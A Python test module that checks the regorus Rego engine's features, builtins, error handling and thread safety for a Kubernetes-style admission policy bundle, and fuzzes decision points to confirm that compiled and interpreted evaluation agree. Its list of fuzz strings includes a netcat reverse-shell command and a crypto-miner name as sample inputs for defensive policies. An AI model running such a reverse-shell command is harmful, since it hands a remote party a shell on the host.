"""The engine contract: the Rego features and builtins our policies rely on, and engine sharp edges.

An engine upgrade that breaks one of these is caught here before a policy silently changes
meaning. The compiled (RVM) path and the interpreter path must agree on the real bundle.
"""

from __future__ import annotations

import json
import threading
from pathlib import Path
from typing import Any

import pytest
import yaml

from propolis.policy.adapters.regorus_engine import RegorusEngine
from propolis.policy.adapters.sources import DirectorySource
from propolis.policy.domain.bundle import build_bundle
from propolis.policy.domain.engine import UNDEFINED, path_to_ref
from propolis.policy.domain.errors import EvaluationError
from tests.conftest import POLICIES, ROOT

FEATURES = r"""package propolis.features
import rego.v1

default dflt := "d"
s contains x if some x in ["a", "b"]
o[k] := v if some k, v in {"p": 1, "q": 2}
every_ok if every x in [1, 2, 3] { x > 0 }
arr := [(x * 2) | some x in [1, 2, 3]]  # regorus: `x * 2 | ...` parses as a set union
setc := {x | some x in [1, 1, 2]}
objc := {k: count(k) | some k in ["ab", "c"]}
f(x) := y if { y := x + 1 }
el := "big" if input.n > 10
else := "small"
with_ok if input.n == 99 with input.n as 99
strings := [
  sprintf("%v-%d", ["a", 1]), concat(",", ["a", "b"]), lower("AB"), upper("ab"),
  trim_space(" a "), trim_prefix("xa", "x"), trim_suffix("ax", "x"), split("a/b", "/"),
]
preds := [startswith("abc", "a"), endswith("abc", "c"), contains("abc", "b"),
          regex.match("^a.c$", "abc"), regex.is_valid("("), is_string(""), is_number(1),
          is_object({}), is_array([]), is_boolean(true), is_set(set())]
nums := [count([1]), sum([1, 2]), max([1, 5]), min([1, 5]), round(1.6), abs(-2), to_number("12"),
         numbers.range(1, 3)]
objs := [object.get({"a": 1}, "b", 0), object.union({"a": 1}, {"b": 2}), object.remove({"a": 1, "b": 2}, ["a"]),
         sort(object.keys({"b": 1, "a": 2})), array.concat([1], [2]), sort(["b", "a"])]
times := [time.parse_rfc3339_ns("2024-01-02T03:04:05Z"), time.now_ns() > 0]
subm := regex.find_all_string_submatch_n("a(\\d)", "a1 a2", -1)
set_of_arrays contains [1, 2] if true
"""

EXPECTED: dict[str, Any] = {
    "dflt": "d", "s": ["a", "b"], "o": {"p": 1, "q": 2}, "every_ok": True, "arr": [2, 4, 6],
    "setc": [1, 2], "objc": {"ab": 2, "c": 1}, "with_ok": True,
    "strings": ["a-1", "a,b", "ab", "AB", "a", "a", "a", ["a", "b"]],
    "preds": [True, True, True, True, False, True, True, True, True, True, True],
    "nums": [1, 3, 5, 1, 2, 2, 12, [1, 2, 3]],
    "objs": [0, {"a": 1, "b": 2}, {"b": 2}, ["a", "b"], [1, 2], ["a", "b"]],
    "subm": [["a1", "1"], ["a2", "2"]],
    "set_of_arrays": [[1, 2]],
}


@pytest.fixture(scope="module")
def compiled() -> Any:
    b = build_bundle({"propolis/features.rego": FEATURES.encode()}, source="test")
    return RegorusEngine().compile(b, [f"propolis/features/{k}" for k in ("arr", "dflt", "set_of_arrays")])


@pytest.mark.parametrize("rule", sorted(EXPECTED))
def test_rego_feature(compiled: Any, rule: str) -> None:
    assert compiled.evaluate(f"propolis/features/{rule}", "{}") == EXPECTED[rule]


def test_functions_else_and_time(compiled: Any) -> None:
    assert compiled.evaluate("propolis/features/el", '{"n": 11}') == "big"
    assert compiled.evaluate("propolis/features/el", '{"n": 1}') == "small"
    t = compiled.evaluate("propolis/features/times", "{}")
    assert t[0] == 1704164645000000000 and t[1] is True


def test_undefined_is_not_confused_with_a_string(tmp_path: Path) -> None:
    rego = 'package propolis.u\nimport rego.v1\nv := "<undefined>"\nw := 1 if input.x\n'
    b = build_bundle({"propolis/u.rego": rego.encode()}, source="t")
    c = RegorusEngine().compile(b, ["propolis/u/v", "propolis/u/w"])
    assert c.evaluate("propolis/u/v", "{}") == "<undefined>"   # compiled path
    assert c.evaluate("propolis/u/w", "{}") is UNDEFINED
    assert c.evaluate("propolis/u", "{}") == {"v": "<undefined>"}  # interpreter path


def test_failing_builtin_and_panics_become_evaluation_errors() -> None:
    rego = "package propolis.e\nimport rego.v1\nx := to_number(input.s)\n"
    c = RegorusEngine().compile(build_bundle({"propolis/e.rego": rego.encode()}, source="t"), [])
    with pytest.raises(EvaluationError, match="could not parse string as number") as exc:
        c.evaluate("propolis/e/x", '{"s": "abc"}')  # interpreter: the whole evaluation aborts
    assert "Stack backtrace" not in str(exc.value)
    with pytest.raises(EvaluationError, match="invalid data path"):
        c.evaluate("propolis/../e", "{}")


def test_each_thread_gets_its_own_engine_objects(compiled: Any) -> None:
    out: list[Any] = []
    errors: list[BaseException] = []

    def work() -> None:
        try:
            for _ in range(50):
                out.append(compiled.evaluate("propolis/features/arr", "{}"))
                out.append(compiled.evaluate("propolis/features/strings", "{}"))
        except BaseException as exc:  # a regorus "unsendable" panic would land here
            errors.append(exc)

    threads = [threading.Thread(target=work) for _ in range(4)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert not errors and len(out) == 400


def test_path_to_ref() -> None:
    assert path_to_ref("propolis/admission/decision") == "data.propolis.admission.decision"
    assert path_to_ref("data.propolis.admission") == "data.propolis.admission"
    assert path_to_ref("/propolis.x/") == "data.propolis.x"
    assert path_to_ref("") == "data"
    for bad in ("a//b", "a/1b", "a/b-c", "a/../b"):
        with pytest.raises(ValueError):
            path_to_ref(bad)


# ---------------------------------------------------------------- compiled == interpreted
TESTDATA = Path(__import__("os").environ.get("PROPOLIS_TESTDATA", ROOT.parent / "shared" / "testdata"))


def _admission_objects() -> list[dict[str, Any]]:
    index = TESTDATA / "admission" / "index.json"
    if not index.is_file():
        pytest.skip(f"admission samples not found under {TESTDATA} (set PROPOLIS_TESTDATA)")
    cases = json.loads(index.read_text())["cases"]
    objs: list[dict[str, Any]] = []
    for c in cases:
        for doc in yaml.safe_load_all((TESTDATA / "admission" / c["file"]).read_text()):
            if not isinstance(doc, dict):
                continue
            if doc.get("kind") == "AdmissionReview" or "request" in doc:
                objs.append(doc if "request" in doc else {"request": doc})
            elif "uid" in doc and "object" in doc:
                objs.append({"request": doc})
            else:
                objs.append({"request": {"uid": "u", "kind": {"kind": doc.get("kind", "Pod")},
                                         "operation": "CREATE", "object": doc}})
    return objs


def test_compiled_and_interpreted_paths_agree_on_real_admission_objects() -> None:
    bundle = DirectorySource(POLICIES).fetch()
    c = RegorusEngine().compile(bundle, ["propolis/admission/decision"])
    objects = _admission_objects()
    assert len(objects) >= 60
    for obj in objects:
        text = json.dumps(obj)
        fast = c.evaluate("propolis/admission/decision", text)
        slow = c.evaluate("propolis/admission", text)["decision"]  # not an entry point: interpreter
        assert fast == slow
        assert isinstance(fast["allow"], bool)


# The compiled VM and the interpreter must agree on every decision point: the VM has had
# semantic differences (undefined under `not`, undefined assignments), so this is checked on
# arbitrary inputs shaped like each point's input.
from hypothesis import HealthCheck, given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

_scalars = st.none() | st.booleans() | st.integers(-5, 200) | st.sampled_from(
    ["", "latest", "nginx:1.25", "registry.propolis.internal/web:1", "critical", "high", "low", "2020-01-01T00:00:00Z",
     "2999-01-01T00:00:00Z", "ci", "deploy", "runtime", "registry", "protect", "monitor", "discover", "bash", "sh",
     "xmrig", "nc -e /bin/sh 1.2.3.4 4444", "pass", "fail", "NET_ADMIN", "SYS_ADMIN", "Pod", "Deployment", "CronJob"])
_keys = st.sampled_from([
    "request", "object", "spec", "containers", "image", "securityContext", "privileged", "findings",
    "severity", "fix_available", "known_exploited", "config", "runs_as_root", "checkpoint", "score",
    "namespace", "team", "now", "proc", "name", "cmdline", "container", "mode", "connection", "src", "dst",
    "port", "results", "id", "status", "scored", "benchmark", "kind", "template", "hostNetwork", "volumes",
    "hostPath", "capabilities", "add", "ports", "hostPort", "signed", "risk", "findings_summary",
    "learned_rules", "image_age_days", "component_count", "attacker_tools", "setuid_files", "exceptions",
    "digest", "repository", "tag"
])
_json_inputs = st.recursive(_scalars, lambda inner: st.lists(inner, max_size=3)
                            | st.dictionaries(_keys, inner, max_size=5), max_leaves=25)

_BUNDLE = DirectorySource(POLICIES).fetch()
_POINTS = sorted(p["path"] for p in _BUNDLE.data["propolis"]["decision_points"].values())
_DEFAULT = RegorusEngine().compile(_BUNDLE, _POINTS)
_VM = RegorusEngine(use_vm=True).compile(_BUNDLE, _POINTS)


def _both(compiled: Any, path: str, text: str) -> tuple[Any, Any]:
    package, rule = path.rsplit("/", 1)
    try:
        entry = compiled.evaluate(path, text)
    except EvaluationError:
        entry = "error"
    try:
        whole = compiled.evaluate(package, text)  # a package path is never an entry point
        whole = whole.get(rule, UNDEFINED) if isinstance(whole, dict) else UNDEFINED
    except EvaluationError:
        whole = "error"
    return entry, whole


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(path=st.sampled_from(_POINTS), value=_json_inputs)
def test_decision_points_agree_with_the_interpreter_on_every_input(path: str, value: Any) -> None:
    entry, whole = _both(_DEFAULT, path, json.dumps(value))
    assert entry == whole, (path, value)


def test_the_compiled_vm_still_diverges_from_the_interpreter() -> None:
    """Why ``use_vm`` is off by default. When a regorus upgrade makes this fail, the VM agrees
    on this case: re-run the property test above with ``_VM`` and consider turning it on."""
    entry, whole = _both(_VM, "propolis/checkpoints/decision", "null")
    assert entry != whole
    assert "<undefined>" in entry["reasons"]
